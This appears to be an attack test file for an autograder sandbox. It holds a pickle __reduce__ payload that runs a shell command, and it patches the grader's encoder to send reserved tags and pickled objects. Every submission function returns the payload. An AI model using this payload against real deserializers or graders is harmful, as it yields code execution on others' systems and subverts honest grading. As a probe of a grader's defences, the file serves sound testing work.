# attack: A19: the tags that only the grader may use, sent to the grader: "o" with a pickle, "f", "O" of what was never given, extension types and timestamps of msgpack
# earns: nothing
# %%
import os, pickle, msgspec, datetime
from autograder.sandbox import answer


class Run:
    def __reduce__(self):
        return (os.system, ("touch /tmp/owned",))


forms = [
    ["o", 0, pickle.dumps(Run())],
    ["f", 0],
    ["O", 0],
    ["o", 1, b""],
    msgspec.msgpack.Ext(5, pickle.dumps(Run())),
    datetime.datetime.now(datetime.timezone.utc),
    {"a": 1},
    [],
    [1, 2],
    [None],
    ["unknown", 1],
    ["l"] * 3,
    ["r", 0],
    ["e", 0, 1],
]
turn = [0]


def special(self, value, writer):
    turn[0] += 1
    return forms[turn[0] % len(forms)]


answer.Answers._encode_special = special


def squared_loss(y_hat, y):
    return Run()


def sgd(params, lr, batch_size):
    return Run()


def linreg(X, w, b):
    return Run()


def data_iter(*a):
    return Run()


def synthetic_data(*a):
    return Run(), Run()


def train_linreg(*a, **k):
    return Run(), Run(), [Run()]
